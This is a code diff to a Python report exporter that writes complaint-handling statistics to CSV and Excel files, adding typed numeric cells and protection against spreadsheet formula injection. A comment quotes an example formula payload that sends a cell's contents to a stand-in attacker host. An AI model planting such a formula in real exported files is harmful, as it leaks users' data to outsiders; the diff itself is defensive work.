@@ -2,6 +2,7 @@
 
 import csv
 import io
+from dataclasses import dataclass
 
 from flask_babel import gettext as _
 
@@ -54,8 +55,46 @@ def as_json(report):
     }
 
 
+class Percent(int):
+    """A whole percent: "43%" when written out, the number 43 in a spreadsheet."""
+
+    def __str__(self):
+        return f"{int(self)}%"
+
+
+@dataclass(frozen=True)
+class Stars:
+    """An average rating (None: no ratings): "4,3" written out, a number in a sheet."""
+
+    average: float | None
+    style = "stars"  # the spreadsheet's number format
+
+    def __str__(self):
+        return format_stars(self.average)
+
+    @property
+    def number(self):
+        return self.average
+
+
+@dataclass(frozen=True)
+class Duration:
+    """A median duration (None: none yet): "2 hari" written out, days in a sheet."""
+
+    seconds: float | None
+    style = "days"
+
+    def __str__(self):
+        return format_duration(self.seconds)
+
+    @property
+    def number(self):
+        return None if self.seconds is None else self.seconds / 86400
+
+
 def tables(report):
-    """(key, title, header, rows, is_breakdown) for each table, values ready to show."""
+    """(key, title, header, rows, is_breakdown) for each table. Cells are text, whole
+    numbers, or the typed values above (str() gives what a person reads)."""
     count_header = [_("Count"), _("Percent")]
     breakdowns = [
         ("by_type", [_("Type")], report.by_type),
@@ -64,80 +103,123 @@ def tables(report):
     ]
     result = []
     for key, first, rows in breakdowns:
-        body = [[row.name, row.count, f"{row.percent}%"] for row in rows]
-        body.append([_("Total"), report.total, "100%" if report.total else "0%"])
+        body = [[row.name, row.count, Percent(row.percent)] for row in rows]
+        body.append([_("Total"), report.total, Percent(100 if report.total else 0)])
         result.append((key, str(TABLE_TITLES[key]), first + count_header, body, True))
     result.append((
         "satisfaction", str(TABLE_TITLES["satisfaction"]),
         [_("OPD"), _("Ratings"), _("Average stars (1–5)")],
-        [[r.name, r.ratings, format_stars(r.average)] for r in report.satisfaction],
+        [[r.name, r.ratings, Stars(r.average)] for r in report.satisfaction],
         False,
     ))
     result.append((
         "speed", str(TABLE_TITLES["speed"]),
         [_("OPD"), _("To forwarding"), _("To first response"), _("To resolution")],
-        [[r.name, format_duration(r.to_forward), format_duration(r.to_first_response),
-          format_duration(r.to_resolution)] for r in report.speed],
+        [[r.name, Duration(r.to_forward), Duration(r.to_first_response),
+          Duration(r.to_resolution)] for r in report.speed],
         False,
     ))
     return result
+
+
+# A text cell starting with one of these is a formula to a spreadsheet program (an
+# OPD named =HYPERLINK("http://evil.example/?"&A1) would run): OWASP's CSV injection.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def neutralised(text):
+    """`text` as a cell a spreadsheet shows and never evaluates."""
+    return "'" + text if text.startswith(_FORMULA_STARTS) else text
 
 
 def _heading(report):
     return [report_title(report), _("Period: %(period)s", period=period_label(report.period))]
 
 
+def _csv_cell(value):
+    return neutralised(value) if isinstance(value, str) else str(value)
+
+
 def as_csv(report):
     out = io.StringIO()
     writer = csv.writer(out)
-    for line in _heading(report):
-        writer.writerow([line])
+
+    def line(*cells):
+        writer.writerow([_csv_cell(cell) for cell in cells])
+
+    for text in _heading(report):
+        line(text)
     for _key, title, header, rows, _breakdown in tables(report):
-        writer.writerow([])
-        writer.writerow([title])
-        writer.writerow(header)
-        writer.writerows(rows)
-    writer.writerow([])
-    writer.writerow([str(ROUNDING_RULE)])
-    writer.writerow([])
+        line()
+        line(title)
+        line(*header)
+        for row in rows:
+            line(*row)
+    line()
+    line(str(ROUNDING_RULE))
+    line()
     for sentence in summary(report):
-        writer.writerow([sentence])
+        line(sentence)
     # A byte-order mark lets spreadsheet programs read the file as UTF-8.
     return "\ufeff" + out.getvalue()
+
+
+class _Sheet:
+    """One worksheet written cell by cell with the type each value has: numbers stay
+    numbers, text is only ever text (never a formula, a number or a link)."""
+
+    def __init__(self, book):
+        self.sheet = book.add_worksheet(_("Report")[:31])
+        self.sheet.set_column(0, 0, 60)
+        self.sheet.set_column(1, 3, 18)
+        self.formats = {
+            "bold": book.add_format({"bold": True}),
+            "title": book.add_format({"bold": True, "font_size": 14}),
+            "stars": book.add_format({"num_format": "0.0"}),
+            # The unit is part of the number format: the cell holds the number of days.
+            "days": book.add_format({"num_format": '0.0" ' + _("days").replace('"', "") + '"'}),
+        }
+        self.line = 0
+
+    def write(self, column, value, style=None):
+        form = self.formats.get(style)
+        if isinstance(value, Stars | Duration):
+            if value.number is None:
+                return self.sheet.write_string(self.line, column, str(value))
+            return self.sheet.write_number(self.line, column, round(value.number, 2),
+                                           self.formats[value.style])
+        if isinstance(value, int):  # counts and whole percents (Percent is an int)
+            return self.sheet.write_number(self.line, column, int(value), form)
+        return self.sheet.write_string(self.line, column, neutralised(str(value)), form)
+
+    def row(self, cells, style=None):
+        for column, value in enumerate(cells):
+            self.write(column, value, style)
+        self.line += 1
 
 
 def as_xlsx(report):
     import xlsxwriter
 
     buffer = io.BytesIO()
-    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
-    bold = book.add_format({"bold": True})
-    title_format = book.add_format({"bold": True, "font_size": 14})
-    sheet = book.add_worksheet(_("Report")[:31])
-    sheet.set_column(0, 0, 60)
-    sheet.set_column(1, 3, 18)
-    line = 0
+    # Text stays text: XlsxWriter would otherwise make "=..." a live formula, "123" a
+    # number and "http://..." a link.
+    book = xlsxwriter.Workbook(buffer, {"in_memory": True, "strings_to_formulas": False,
+                                        "strings_to_numbers": False, "strings_to_urls": False})
+    sheet = _Sheet(book)
     for i, text in enumerate(_heading(report)):
-        sheet.write(line, 0, text, title_format if i == 0 else None)
-        line += 1
-    for _key, title, header, rows, breakdown in tables(report):
-        line += 1
-        sheet.write(line, 0, title, bold)
-        line += 1
-        sheet.write_row(line, 0, header, bold)
-        line += 1
+        sheet.row([text], "title" if i == 0 else None)
+    for _key, title, header, rows, _breakdown in tables(report):
+        sheet.line += 1
+        sheet.row([title], "bold")
+        sheet.row(header, "bold")
         for row in rows:
-            if breakdown:
-                # Numbers stay numbers: the percent column holds whole percents.
-                row = [row[0], row[1], int(row[2].rstrip("%"))]
-            sheet.write_row(line, 0, row)
-            line += 1
-    line += 1
-    sheet.write(line, 0, str(ROUNDING_RULE))
-    line += 2
+            sheet.row(row)
+    sheet.line += 1
+    sheet.row([str(ROUNDING_RULE)])
+    sheet.line += 1
     for sentence in summary(report):
-        sheet.write(line, 0, sentence)
-        line += 1
+        sheet.row([sentence])
     book.close()
     return buffer.getvalue()
 
